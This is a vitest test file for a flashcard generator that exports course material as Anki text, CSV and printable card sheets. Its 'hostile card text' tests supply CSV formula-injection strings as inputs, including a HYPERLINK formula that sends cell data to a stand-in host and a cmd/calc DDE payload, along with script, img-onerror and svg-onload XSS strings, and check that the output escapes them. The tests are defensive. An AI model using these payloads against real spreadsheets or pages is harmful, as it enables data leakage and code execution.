// Flashcards from the model (pure): what becomes a card, merging, stable GUIDs, the Anki text
// file and the CSV (read back with a CSV library), the cloze choice and the duplex sheet layout.
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { courseCards, type Card } from '../src/generate/flashcards/cards.ts';
import { pickCloze } from '../src/generate/flashcards/cloze.ts';
import { ankiText, cardsCsv, CSV_COLUMNS } from '../src/generate/flashcards/formats.ts';
import { CARDS_PER_PAGE, sheetData, slotPosition } from '../src/generate/flashcards/sheet.ts';
import { validateConfig } from '../src/config/index.ts';
import { isGenericTitle } from '../src/model/recognisers/generic-titles.ts';
import { courseFromText, loadCourse } from '../src/index.ts';

const fixture = fileURLToPath(new URL('./fixtures/study/course.md', import.meta.url));
const ddiaPath = fileURLToPath(new URL('../../shared/courses/ddia-course.md', import.meta.url));
const key = (s: string) => s.toLowerCase().replace(/[^\p{L}\p{N}]+/gu, '');

/** Anki notes of anki.txt: the lines after the # headers, split at tabs. */
const notes = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .filter((l) => !l.startsWith('#'))
    .map((l) => l.split('\t'));

describe('DDIA flashcards', async () => {
  const { course } = await loadCourse(ddiaPath);
  const lines = readFileSync(ddiaPath, 'utf8').split('\n');
  const { cards } = courseCards(course);

  it('has at least 150 cards, from every chapter and every kind', () => {
    expect(cards.length).toBeGreaterThanOrEqual(150);
    expect(new Set(cards.map((c) => c.chapter))).toEqual(new Set(course.chapters.map((c) => c.number)));
    expect(new Set(cards.map((c) => c.kind))).toEqual(
      new Set(['definition', 'takeaway', 'analogy', 'analogy-reverse', 'insight']),
    );
  });

  it('traces every card to the source line where the block holding its text starts', () => {
    const untraced = cards.filter((c) => {
      const [src] = c.sources;
      if (src?.file !== 'ddia-course.md') return true;
      // The block starts on that line; its text may begin a line or two below ("> **Analogy:**" then the text).
      const block = key(lines.slice(src.line - 1, src.line + 3).join(' '));
      const sides = [c.front.replace(/^Which idea is like this\? /, ''), c.back, c.cloze?.answer ?? '']
        .map((s) => key(s).slice(0, 12))
        .filter((s) => s.length >= 3);
      return !sides.some((s) => block.includes(s));
    });
    expect(untraced.map((c) => `${c.kind} ${c.front}`)).toEqual([]);
  });

  it('has no one-sided card and no duplicate', () => {
    expect(cards.filter((c) => !c.front.trim() || !c.back.trim())).toEqual([]);
    // The same front may come back in another chapter, or for a second analogy of one concept, never with the same back.
    const fronts = cards.map((c) => `${c.chapter}\0${c.kind}\0${key(c.front)}\0${key(c.back)}`);
    expect(new Set(fronts).size).toBe(fronts.length);
    expect(new Set(cards.map((c) => c.guid)).size).toBe(cards.length);
  });

  it('names a real concept on every analogy card: never a generic sub-heading; one analogy per card; whole sentences', () => {
    const concepts = cards.filter((c) => c.kind === 'analogy-reverse').map((c) => c.back);
    expect(concepts.length).toBeGreaterThan(80);
    // The sub-headings the course uses under its sections (they were concepts on 17 cards).
    const generic = [
      'Disadvantages',
      'Limitations',
      'Cons',
      'The Setup',
      'Goals',
      'Definition',
      'Strategies',
      'Advantages',
      'Mitigations',
      'Approaches',
      'The challenge',
      'The Core Idea',
      'How It Works',
      'When to Use Which?',
    ];
    expect(concepts.filter((c) => generic.includes(c) || isGenericTitle(c))).toEqual([]);
    // The three format analogies of 4.3 each name their own format, no longer one merged "Disadvantages" card.
    expect(cards.filter((c) => c.kind === 'analogy' && c.chapter === 4).map((c) => c.front)).toEqual(
      expect.arrayContaining([
        'What is “Language-Specific Encodings” like?',
        'What is “Text-Based Encodings” like?',
        'What is “Binary Encodings with Explicit Schema” like?',
      ]),
    );
    expect(cards.filter((c) => c.kind.startsWith('analogy') && c.back.includes('\n'))).toEqual([]);
    const sentences = cards
      .filter((c) => c.kind === 'definition' || c.kind === 'analogy' || c.kind === 'insight')
      .map((c) => c.back);
    expect(
      sentences.filter((b) => b.split('\n').some((l) => !/^[\p{Lu}\p{N}“"(]/u.test(l) || !/[.!?…]["”’)]*$/u.test(l))),
    ).toEqual([]);
  });

  it('keeps source references off printed cards unless asked, and in the CSV', () => {
    const faces = (sources: boolean) =>
      sheetData(course.title, cards, new Map(), 'en', sources).pages.flatMap((p) => p.faces);
    expect(faces(false).filter((f) => f.source !== '')).toEqual([]);
    expect(faces(true).every((f) => /^ddia-course\.md:\d+/.test(f.source))).toBe(true);
    expect(cardsCsv(cards)).toContain('ddia-course.md:');
  });

  it('gives the same GUIDs when the course is loaded again', async () => {
    const again = courseCards((await loadCourse(ddiaPath)).course).cards;
    expect(notes(ankiText(course, again)).map((n) => n[0])).toEqual(notes(ankiText(course, cards)).map((n) => n[0]));
  });

  it('files chapter 5 under its own sub-deck with chapter and kind tags', () => {
    const replication = notes(ankiText(course, cards)).filter(
      (n) => n[2] === 'Designing Data-Intensive Applications::05 Replication',
    );
    expect(replication.length).toBe(cards.filter((c) => c.chapter === 5).length);
    expect(replication.every((n) => n[3]!.split(' ').includes('chapter::05-replication'))).toBe(true);
    expect(new Set(replication.map((n) => n[3]!.split(' ')[1]))).toEqual(
      new Set(['kind::definition', 'kind::takeaway', 'kind::analogy', 'kind::analogy-reverse', 'kind::insight']),
    );
  });
});

describe('cards of a small course', async () => {
  const text = readFileSync(fixture, 'utf8');
  const { course } = courseFromText(text, 'course.md');
  const { cards, skipped } = courseCards(course);
  const find = (kind: Card['kind'], front: string) => cards.find((c) => c.kind === kind && c.front === front);

  it('makes each kind of card with its source line', () => {
    expect(find('definition', 'Queen')).toMatchObject({
      back: 'The only fertile female; she lays up to two thousand eggs a day.',
      sources: [{ file: 'course.md', line: 15 }],
    });
    expect(find('takeaway', 'Drone')).toMatchObject({
      back: 'Role: Mates, then dies\nLives for: A few weeks',
      sources: [{ file: 'course.md', line: 38 }],
    });
    expect(find('analogy', 'What is “Reaching a Quorum” like?')?.back).toBe(
      'A quorum is like a meeting that can only vote once enough members have arrived.',
    );
    expect(
      find(
        'analogy-reverse',
        'Which idea is like this? A quorum is like a meeting that can only vote once enough members have arrived.',
      )?.back,
    ).toBe('Reaching a Quorum');
    const insight = cards.find((c) => c.kind === 'insight' && c.chapter === 2);
    expect(insight?.cloze?.answer).toBe('at the pace of its slowest honest scout');
    expect(insight?.front).toBe('The swarm decides well because it decides slowly and together — […].');
    expect(skipped).toEqual([]);
  });

  it('merges duplicates within a chapter as whole sentences and keeps both sources; another chapter has its own card', () => {
    const doubled = courseFromText(
      text
        .replace('## 1.2', '- **Queen:** the bee every swarm follows to its new home\n\n## 1.2')
        .replace(
          '## 2.2 Reaching a Quorum',
          '- **Queen:** the bee the scouts leave behind.\n\n## 2.2 Reaching a Quorum',
        ),
      'course.md',
    ).course;
    const queen = courseCards(doubled).cards.filter((c) => c.kind === 'definition' && c.front === 'Queen');
    expect(queen.map((q) => [q.chapter, q.back, q.sources.map((s) => s.line)])).toEqual([
      [
        1,
        'The only fertile female; she lays up to two thousand eggs a day.\nThe bee every swarm follows to its new home.',
        [15, 21],
      ],
      [2, 'The bee the scouts leave behind.', [58]],
    ]);
  });

  it('skips a card with an empty side and says where', () => {
    const broken = courseFromText(
      text.replace('- **Drone:** a male whose one task is to mate with a queen from another hive.', '- **Drone:**'),
      'course.md',
    ).course;
    const set = courseCards(broken);
    expect(set.cards.some((c) => c.front === 'Drone' && c.kind === 'definition')).toBe(false);
    expect(set.skipped).toEqual([{ kind: 'definition', subject: 'Drone', source: { file: 'course.md', line: 17 } }]);
  });

  it('keeps GUIDs when a card is edited or moved, so a re-import updates it', () => {
    const edited = courseFromText(
      text
        .replace('she lays up to two thousand eggs a day', 'she lays most of the eggs')
        .replace(
          '# Chapter 1: The Colony\n',
          '# Chapter 1: The Colony\n\nA line added at the top moves every card down.\n',
        ),
      'course.md',
    ).course;
    const after = courseCards(edited).cards;
    expect(after.map((c) => c.guid)).toEqual(cards.map((c) => c.guid));
    expect(after.find((c) => c.front === 'Queen')?.back).toBe('The only fertile female; she lays most of the eggs.');
  });

  it('writes Anki text import with its headers, HTML fields and cloze notes', () => {
    const anki = ankiText(course, cards);
    expect(anki.split('\n').slice(0, 7)).toEqual([
      '#separator:tab',
      '#html:true',
      '#guid column:1',
      '#notetype column:2',
      '#deck column:3',
      '#tags column:4',
      '#columns:guid\tnotetype\tdeck\ttags\tfront\tback',
    ]);
    const rows = notes(anki);
    expect(rows).toHaveLength(cards.length);
    expect(rows.every((r) => r.length === 6)).toBe(true);
    const forager = rows.find((r) => r[4] === 'Forager')!;
    expect(forager.slice(1, 4)).toEqual([
      'Basic',
      'Keeping Bees::01 The Colony',
      'chapter::01-the-colony kind::definition',
    ]);
    expect(forager[5]).toContain('&quot;the field force&quot;');
    expect(forager[5]).toMatch(/<small>course\.md:28<\/small>$/);
    expect(rows.find((r) => r[1] === 'Cloze' && r[2] === 'Keeping Bees::02 Agreement Without a Leader')?.[4]).toBe(
      'The swarm decides well because it decides slowly and together — {{c1::at the pace of its slowest honest scout}}.',
    );
  });

  it('writes an RFC 4180 CSV that a CSV parser reads back exactly', () => {
    const csv = cardsCsv(cards);
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parse(csv, { columns: true }) as Array<Record<(typeof CSV_COLUMNS)[number], string>>;
    expect(Object.keys(records[0]!)).toEqual([...CSV_COLUMNS]);
    expect(records.map((r) => [r.front, r.back, r.kind, r.source])).toEqual(
      cards.map((c) => [c.front, c.back, c.kind, c.sources.map((s) => `${s.file}:${s.line}`).join('; ')]),
    );
    // A comma, a quote and a line break survive the trip.
    const scouting = records.find((r) => r.front === 'Scouting')!;
    expect(scouting.back).toBe('Meaning: Many independent visits, "each one honest", compared, not trusted blindly');
    expect(records.find((r) => r.front === 'Queen' && r.kind === 'takeaway')!.back).toBe(
      'Role: Lays the eggs, holds the colony together\nLives for: Several years',
    );
  });
});

describe('hostile card text', () => {
  const card = (front: string, back: string, chapterTitle = 'Chapter'): Card =>
    ({
      guid: 'g',
      kind: 'definition',
      front,
      back,
      chapter: 1,
      chapterTitle,
      chapterSlug: '01-chapter',
      sources: [{ file: 'c.md', line: 1 }],
    }) as Card;

  it('cards.csv neutralises formulas: cells starting with = + - @, tab or CR get a leading quote', () => {
    const hostile = [
      '=HYPERLINK("http://x.test/?"&A1,"open")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
      'plain = text',
    ];
    const csv = cardsCsv(hostile.map((h) => card(h, h)));
    const records = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(records.map((r) => r.front)).toEqual([
      '\'=HYPERLINK("http://x.test/?"&A1,"open")',
      "'+1+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'\r=1+1",
      "'＝1+1",
      'plain = text',
    ]);
    expect(records.every((r) => !/^[=+\-@\t\r＝]/.test(r.front!) && !/^[=+\-@\t\r＝]/.test(r.back!))).toBe(true);
  });

  it('anki.txt has no raw HTML in any column: fields escaped, deck and tag names stripped of markup', () => {
    const course = {
      ...courseFromText('# Chapter 1: X\n\nText.\n').course,
      title: 'Deck <img src=x onerror=alert(1)> & <b>co</b>',
    };
    const anki = ankiText(course, [card('<script>alert(1)</script>', 'a < b & "c"', 'Intro <svg onload=alert(2)>')]);
    const row = anki.trimEnd().split('\n').at(-1)!.split('\t');
    expect(row[2]).toBe('Deck ＆ co::01 Intro');
    expect(row[4]).toBe('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(row[5]).toMatch(/^a &lt; b &amp; &quot;c&quot;<br><br><small>/);
    expect(anki).not.toMatch(/<(?!br>|small>|\/small>)/);
  });
});

describe('cloze', () => {
  it('hides the punchline after a dash, else the last content word', () => {
    expect(pickCloze('Maps are models — useful because they leave things out.', 'Maps')).toEqual({
      before: 'Maps are models — ',
      answer: 'useful because they leave things out',
      after: '.',
    });
    expect(pickCloze('Good bread needs patience more than skill.', 'Bread')).toMatchObject({ answer: 'skill' });
    expect(pickCloze('La mémoire se construit par la répétition espacée.', 'Mémoire')).toMatchObject({
      answer: 'espacée',
    });
    expect(pickCloze('', 'x')).toBeNull();
  });
});

describe('printed sheet', () => {
  it('mirrors back pages so each back lands behind its front on a long-edge flip', () => {
    for (let i = 0; i < CARDS_PER_PAGE; i++) {
      const front = slotPosition(i, 'front');
      const back = slotPosition(i, 'back');
      expect(back.row).toBe(front.row);
      expect(back.col).toBe(1 - front.col);
      expect(back.xMm + front.xMm + 95).toBeCloseTo(210); // symmetric about the page's vertical axis
    }
  });

  it('alternates pages of fronts and backs, 8 cards each', async () => {
    const { course } = courseFromText(readFileSync(fixture, 'utf8'), 'course.md');
    const { cards } = courseCards(course);
    const data = sheetData(course.title, cards);
    expect(data.pages.map((p) => p.side)).toEqual(['front', 'back', 'front', 'back', 'front', 'back']);
    expect(data.pages.map((p) => p.faces.length)).toEqual([8, 8, 8, 8, 6, 6]);
    expect(data.pages[1]!.faces.map((f) => f.n)).toEqual(data.pages[0]!.faces.map((f) => f.n));
    expect(data.marks).toHaveLength(2 * 3 + 2 * 5);
  });
});

describe('switch', () => {
  it('is a format of --formats and of the config', () => {
    expect(validateConfig({ formats: 'svg,flashcards' }, 'coursemap.config.json', '/').formats).toEqual([
      'svg',
      'flashcards',
    ]);
    expect(() => validateConfig({ formats: ['flashcard'] }, 'coursemap.config.json', '/')).toThrow(
      'coursemap.config.json: "formats" must be a list of svg, png, pdf, html, pptx, flashcards, handout, book ("flashcard" is not one), got ["flashcard"]',
    );
  });
});
